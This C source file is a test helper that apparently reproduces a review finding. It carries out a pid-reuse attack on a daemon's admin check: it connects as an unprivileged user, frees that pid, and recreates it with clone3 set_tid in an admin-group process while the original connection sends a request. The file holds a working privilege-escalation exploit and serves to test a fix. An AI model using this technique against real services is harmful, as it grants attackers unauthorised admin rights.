// SPDX-License-Identifier: MIT
/*
 * The review's pid-reuse attack on ffmd's admin check (tests/daemon/test_sec_daemon.sh builds
 * and runs this as root):
 *
 *     peerreuse SOCKET UID GID ADMIN_GID REQUEST
 *
 * A process A of UID/GID (no supplementary group) connects to SOCKET and forks G, which keeps
 * the connection; A exits. Its pid is then given (clone3 with set_tid) to a process C in the
 * group ADMIN_GID, and only while C lives does G send REQUEST ("\n" for newlines); G prints the
 * response's first line. A daemon that looks up the peer's groups by pid at request time sees
 * C's. Exit 0 when the response came, 77 when the pid could not be reused, 1 on an error.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <grp.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void unescape(char *s)
{
	char *o = s;

	for (; *s; s++)
		if (s[0] == '\\' && s[1] == 'n') {
			*o++ = '\n';
			s++;
		} else {
			*o++ = *s;
		}
	*o = 0;
}

static void as_user(uid_t uid, gid_t gid, int ngroups, const gid_t *groups)
{
	if (setgroups(ngroups, groups) < 0 || setresgid(gid, gid, gid) < 0 || setresuid(uid, uid, uid) < 0) {
		perror("peerreuse: dropping privileges");
		_exit(1);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int go[2], got[2], st;
	pid_t a, c;
	char buf[4096];

	if (argc != 6)
		return fprintf(stderr, "usage: peerreuse SOCKET UID GID ADMIN_GID REQUEST\n"), 1;
	uid_t uid = (uid_t)atol(argv[2]);
	gid_t gid = (gid_t)atol(argv[3]), admin = (gid_t)atol(argv[4]);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[1]);
	unescape(argv[5]);
	if (pipe(go) < 0 || pipe(got) < 0)
		return 1;
	a = fork();
	if (a == 0) {
		int fd;

		as_user(uid, gid, 0, NULL);
		fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
		if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			perror("peerreuse: connect");
			_exit(1);
		}
		if (fork() == 0) { /* G: the connection's keeper */
			ssize_t n;
			char x;

			close(go[1]);
			if (read(go[0], &x, 1) != 1)
				_exit(1);
			if (send(fd, argv[5], strlen(argv[5]), 0) < 0 || (n = recv(fd, buf, sizeof(buf) - 1, 0)) <= 0)
				_exit(1);
			buf[n] = 0;
			buf[strcspn(buf, "\n")] = 0;
			printf("%s\n", buf);
			fflush(stdout);
			write(got[1], "x", 1);
			_exit(0);
		}
		_exit(0);
	}
	close(go[0]);
	close(got[1]);
	waitpid(a, &st, 0); /* A is gone: its pid is free */
	if (!WIFEXITED(st) || WEXITSTATUS(st))
		return 1;
	struct clone_args ca = { .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&a, .set_tid_size = 1 };
	c = (pid_t)syscall(SYS_clone3, &ca, sizeof(ca));
	if (c < 0) {
		fprintf(stderr, "peerreuse: cannot reuse pid %d: %s\n", (int)a, strerror(errno));
		return 77;
	}
	if (c == 0) { /* C: an admin group member with A's pid, alive until G has its answer */
		char x;

		close(got[1]);
		as_user(uid + 1, gid, 1, &admin);
		write(go[1], "x", 1);
		alarm(10);
		read(got[0], &x, 1);
		_exit(0);
	}
	fprintf(stderr, "peerreuse: pid %d reused by a process of group %u\n", (int)a, (unsigned)admin);
	close(go[1]);
	waitpid(c, &st, 0);
	while (wait(NULL) > 0)
		;
	return 0;
}
